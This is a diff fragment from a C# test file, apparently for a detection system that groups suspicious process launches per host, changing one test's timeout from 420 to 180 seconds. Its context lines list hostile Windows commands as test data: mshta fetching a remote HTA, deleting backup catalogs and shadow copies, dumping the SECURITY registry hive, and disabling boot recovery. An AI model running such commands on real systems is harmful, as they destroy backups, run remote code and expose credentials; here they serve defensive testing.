@@ -14,7 +14,7 @@ public class ClustersTests(AppFixture app) : IClassFixture<AppFixture>
         "mshta.exe http://203.0.113.27/a.hta", "wbadmin.exe delete catalog -quiet", "wmic.exe shadowcopy delete", @"reg.exe save hklm\security x.hiv", "bcdedit.exe /set {default} recoveryenabled no",
     ];
 
-    [Fact(Timeout = 420_000)]
+    [Fact(Timeout = 180_000)]
     public async Task Launches_of_one_host_in_several_partitions_are_found_together_and_handed_over_until_dealt_with()
     {
         var baseline = AzuriteFixture.UniqueName("clusters");
